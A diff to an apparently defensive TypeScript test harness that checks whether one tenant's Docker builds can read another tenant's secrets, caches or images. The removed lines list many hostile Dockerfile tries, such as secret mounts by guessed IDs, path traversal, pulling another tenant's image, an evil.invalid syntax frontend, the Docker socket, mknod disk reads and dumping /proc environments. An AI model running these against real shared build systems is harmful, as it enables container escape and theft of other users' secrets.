@@ -1,236 +1,45 @@
-import type { Bench, Row } from './bench.ts'
-import { ownersFolder, SAME_START, together } from './bench.ts'
-
-/** A try to read what is the other's: a Dockerfile, and whatever else it needs. */
-type Try = { says: string; dockerfile?: string[]; files?: Record<string, string>; more?: object }
+import { type Bench, type Row, type Tried, together } from './bench.ts'
+import { besideOwner } from './beside.ts'
+import { RAN, type Try } from './ways.ts'
 
 /** Every build ends here: what a step could read is printed before, and nothing is rolled out. */
 const END = 'RUN exit 7'
-const decoy = (length: number) => 'x'.repeat(length)
 
-/** The ways from one project's build into another's things, each with the tries at it. */
-export function waysIn({ owner, image, secrets }: Bench): { trap: string; tries: Try[] }[] {
-  const same = {
-    'src/.env': `KEY=${decoy(secrets.file.length)}`,
-    'src/cache': decoy(secrets.cache.length),
-    'src/image': decoy(secrets.image.length),
-  }
-  const show = 'RUN cat /src/.env /src/* /private /c/* /kept/* 2>&1; true'
-  return [
-    {
-      trap: 'contexts of the same names and sizes (times are the server’s own)',
-      tries: [
-        { says: 'the same files', files: same, dockerfile: ['FROM busybox:1', 'COPY . /', show] },
-        { says: 'the same files again', files: same, dockerfile: ['FROM busybox:1', 'COPY . /', show] },
-        { says: 'no files', dockerfile: ['FROM busybox:1', 'COPY . /', show] },
-        { says: 'the file by its name', dockerfile: ['FROM busybox:1', 'COPY src/.env /src/', show] },
-        { says: 'the folder above', dockerfile: ['FROM busybox:1', `COPY ../${owner.id} /`, show] },
-        {
-          says: 'the folder above, mounted',
-          dockerfile: ['FROM busybox:1', `RUN --mount=type=bind,source=../${owner.id},target=/o cat /o/src/.env`],
-        },
-        {
-          says: 'the file by its whole path',
-          dockerfile: ['FROM busybox:1', `ADD /../../${owner.id}/src/.env /src/`, show],
-        },
-      ],
-    },
-    {
-      trap: 'cached results of the same Dockerfile',
-      tries: [
-        { says: 'without the secret', dockerfile: [...SAME_START, 'RUN cat /private'] },
-        {
-          says: "with the owner's whole folder but its secrets",
-          files: { ...ownersFolder(secrets), ...same },
-          dockerfile: [...SAME_START, 'RUN cat /private'],
-        },
-        {
-          says: 'a stage of it',
-          dockerfile: [...SAME_START, 'FROM busybox:1', 'COPY --from=start /private /private', 'RUN cat /private'],
-        },
-        {
-          says: 'with a secret of its own',
-          dockerfile: [...SAME_START, 'RUN cat /private'],
-          more: { services: [{ name: 'web', port: 8080, memoryMb: 32, environment: { TOKEN: 'my-own-token' } }] },
-        },
-      ],
-    },
-    { trap: "secrets by the other's names", tries: secretTries() },
-    { trap: 'cache mounts of the same id', tries: cacheTries(owner.id) },
-    { trap: "the other's image, by tag and by id", tries: imageTries(image) },
-    { trap: '# syntax= lines', tries: syntaxTries(image.tag) },
-    { trap: 'BUILDKIT_* arguments', tries: argumentTries(owner.id, image.tag) },
-    { trap: 'the host: network, privileges, devices, sockets', tries: hostTries() },
-  ]
-}
-
-const secretTries = (): Try[] =>
-  ['TOKEN', 'SLIPWAY_SECRET_0', 'SLIPWAY_SECRET_1', '0', 'DOCKER_CONFIG'].flatMap((id) => [
-    {
-      says: `${id}`,
-      dockerfile: ['FROM busybox:1', `RUN --mount=type=secret,id=${id} cat /run/secrets/${id}; env; true`],
-    },
-    {
-      says: `${id} as a variable`,
-      dockerfile: ['FROM busybox:1', `RUN --mount=type=secret,id=${id},env=GOT env; true`],
-    },
-  ])
-
-const cacheTries = (owner: string): Try[] => {
-  const look = (options: string) => [
-    'FROM busybox:1',
-    `RUN --mount=type=cache,${options},target=/c cat /c/* 2>&1; true`,
-  ]
-  const args = { BUILDKIT_CACHE_MOUNT_NS: owner }
-  return [
-    ...[
-      'id=shared',
-      'id=shared,sharing=private',
-      'id=shared,sharing=locked',
-      'id=/kept',
-      `id=${owner}/shared`,
-      `id=${owner}//kept`,
-      `id=/${owner}/shared`,
-    ].map((options) => ({ says: options, dockerfile: look(options) })),
-    { says: 'the same place', dockerfile: ['FROM busybox:1', 'RUN --mount=type=cache,target=/kept cat /kept/*; true'] },
-    {
-      says: 'its namespace as an argument in the file',
-      dockerfile: [`ARG BUILDKIT_CACHE_MOUNT_NS=${owner}`, ...look('id=shared')],
-    },
-    { says: 'its namespace as a build argument', dockerfile: look('id=shared'), more: withArgs(args) },
-  ]
-}
-
-const withArgs = (args: Record<string, string>) => ({
-  services: [{ name: 'web', port: 8080, memoryMb: 32, build: { context: '.', args } }],
-})
-
-const imageTries = ({ tag, id }: { tag: string; id: string }): Try[] => {
-  const hex = id.slice('sha256:'.length)
-  const [host = '', rest = ''] = tag.split('.invalid')
-  const names = [
-    tag,
-    tag.toUpperCase().replace('SLIPWAY.INVALID', 'slipway.INVALID'),
-    id,
-    hex,
-    hex.slice(0, 12),
-    hex.slice(0, 6),
-    `busybox@${id}`,
-    `docker.io/${tag}`,
-  ]
-  return [
-    ...names.flatMap((name) => [
-      { says: `FROM ${name}`, dockerfile: [`FROM ${name}`, 'RUN cat /private /src/*'] },
-      {
-        says: `COPY --from=${name}`,
-        dockerfile: ['FROM busybox:1', `COPY --from=${name} /private /src /`, 'RUN cat /private /image /cache'],
-      },
-      {
-        says: `mount from=${name}`,
-        dockerfile: ['FROM busybox:1', `RUN --mount=type=bind,from=${name},target=/o cat /o/private /o/src/*`],
-      },
-    ]),
-    { says: 'its name in two halves', dockerfile: [`ARG A=${host}`, `FROM \${A}.invalid${rest}`, 'RUN cat /private'] },
-    {
-      says: 'its name as an argument',
-      dockerfile: ['ARG A=busybox:1', 'FROM $A', 'RUN cat /private'],
-      more: withArgs({ A: tag }),
-    },
-    {
-      says: 'its name with another escape',
-      dockerfile: ['# escape=`', `FROM slip\``, tag.slice('slip'.length), 'RUN cat /private'],
-    },
-    { says: 'its name as a default', dockerfile: [`FROM \${NONE:-${tag}}`, 'RUN cat /private'] },
-  ]
-}
-
-const syntaxTries = (tag: string): Try[] =>
-  [
-    `# syntax=${tag}`,
-    '# syntax=evil.invalid/frontend',
-    '#syntax = evil.invalid/frontend',
-    '// syntax=evil.invalid/frontend',
-    `\uFEFF# syntax=${tag}`,
-    `# escape=\\\n# syntax=${tag}`,
-    `{"syntax":"${tag}"}`,
-  ].map((first) => ({
-    says: JSON.stringify(first.slice(0, 40)),
-    dockerfile: [first, 'FROM busybox:1', 'RUN cat /private; true'],
-  }))
-
-const argumentTries = (owner: string, tag: string): Try[] => [
-  {
-    says: 'BUILDKIT_SYNTAX',
-    dockerfile: ['FROM busybox:1', 'RUN cat /private; true'],
-    more: withArgs({ BUILDKIT_SYNTAX: tag }),
-  },
-  {
-    says: 'buildkit_syntax',
-    dockerfile: ['FROM busybox:1', 'RUN cat /private; true'],
-    more: withArgs({ buildkit_syntax: tag }),
-  },
-  {
-    says: 'BUILDKIT_SANDBOX_HOSTNAME',
-    dockerfile: ['FROM busybox:1', 'RUN hostname; cat /private; true'],
-    more: withArgs({ BUILDKIT_SANDBOX_HOSTNAME: owner }),
-  },
-  {
-    says: 'BUILDKIT_CONTEXT_KEEP_GIT_DIR',
-    dockerfile: ['FROM busybox:1', 'COPY . /', 'RUN cat /src/*; true'],
-    more: withArgs({ BUILDKIT_CONTEXT_KEEP_GIT_DIR: '1' }),
-  },
-]
-
-/** Printed by a step that should never have run. */
-const RAN = 'this-step-ran'
-
-const hostTries = (): Try[] => [
-  { says: 'RUN --network=host', dockerfile: ['FROM busybox:1', `RUN --network=host echo ${RAN}`] },
-  { says: 'RUN --security=insecure', dockerfile: ['FROM busybox:1', `RUN --security=insecure echo ${RAN}`] },
-  {
-    says: 'the socket of the engine',
-    dockerfile: ['FROM busybox:1', `RUN find / -xdev -name "docker*.sock" -exec echo ${RAN} \\;`],
-  },
-  {
-    says: 'a disk',
-    dockerfile: [
-      'FROM busybox:1',
-      `RUN for n in 0 16 32; do mknod /d$n b 252 $n && head -c 512 /d$n >/dev/null && echo ${RAN}; done; true`,
-    ],
-  },
-  {
-    says: 'another root',
-    dockerfile: [
-      'FROM busybox:1',
-      `RUN mkdir /m && mount -t cgroup -o memory none /m && echo ${RAN}; mount -t proc none /m && echo ${RAN}; true`,
-    ],
-  },
-  {
-    says: 'environments of other processes',
-    dockerfile: ['FROM busybox:1', 'RUN cat /proc/*/environ | tr "\\000" "\\n"; true'],
-  },
-  {
-    says: 'every file there is',
-    dockerfile: ['FROM busybox:1', 'RUN find / -xdev -type f | xargs grep -h victim-secre[t] ; true'],
-  },
-]
-
-/** Makes all tries at one way in, in turns with builds of the owner's own. */
+/** Makes all tries at one way in, those that say so beside a build of the owner's. */
 export async function tryAll(bench: Bench, trap: string, tries: Try[]): Promise<Row> {
   const broken: string[] = []
-  const values = Object.values(bench.secrets)
-  for (const { says, dockerfile = [], files = {}, more = {} } of tries) {
+  let untried = 0
+  for (const one of tries) {
+    const { says, files = {}, more = {}, dockerfile = [] } = one
     const folder = { ...files, 'www/index.html': 'the thief', Dockerfile: `${[...dockerfile, END].join('\n')}\n` }
-    const { status, error, lines } = await bench.build(bench.thief, folder, more)
-    const seen = JSON.stringify([lines, error])
-    const wrong = [
-      ...(values.some((value) => seen.includes(value)) ? ['it was read'] : []),
-      ...(lines.includes(RAN) ? ['the step ran'] : []),
-      ...(status !== 'failed' || error?.code === 'internal' ? [`it ended as ${status} ${error?.code ?? ''}`] : []),
-    ]
-    broken.push(...together(wrong).map((text) => `${says}: ${text}`))
+    const attempt = () => bench.build(bench.thief, folder, more)
+    const { tried, wrong } = one.beside ? await besideOwner(bench, attempt) : { tried: await attempt(), wrong: [] }
+    const verdict = judge(tried, Object.values(bench.secrets))
+    if (verdict === 'untried') untried++
+    else broken.push(...together([...wrong, ...verdict]).map((text) => `${says}: ${text}`))
   }
-  return { trap, tried: tries.length, broken }
+  return {
+    trap: untried > 0 ? `${trap} (${untried} that this engine cannot read)` : trap,
+    tried: tries.length - untried,
+    broken,
+  }
+}
+
+/** Why a build that tried to read came to nothing: it ran to its end, or somebody refused what it asked for. */
+const REPELLED =
+  /RUN exit 7\): a command ended with code 7|invalid repository name|not allowed|cannot be used|belong to the platform|may name an image|begins with comments|not found|no such|failed to resolve|invalid reference|must be a path|denied|entitlement|no file|reference format|could not find|forbidden path|too many/i
+/** A file that cannot be read as a Dockerfile has tried nothing. */
+const UNREADABLE = /parse error|unknown instruction|unknown flag|unexpected key|invalid field|unsupported/i
+
+/** What is wrong with how it ended; `untried` where the engine did not understand it. */
+export function judge({ status, error, lines }: Pick<Tried, 'status' | 'error' | 'lines'>, secrets: string[]) {
+  const words = error?.message ?? ''
+  const seen = JSON.stringify([lines, error])
+  if (secrets.some((value) => seen.includes(value))) return ['it was read']
+  if (lines.includes(RAN)) return ['the step ran']
+  if (status !== 'failed' || error?.code === 'internal') return [`it ended as ${status} ${error?.code ?? ''}`]
+  if (UNREADABLE.test(words)) return 'untried' as const
+  return REPELLED.test(words) ? [] : [`nobody knows why it failed: ${words.slice(0, 200)}`]
 }
 
 /** Images of the other's, deployed instead of built from. */
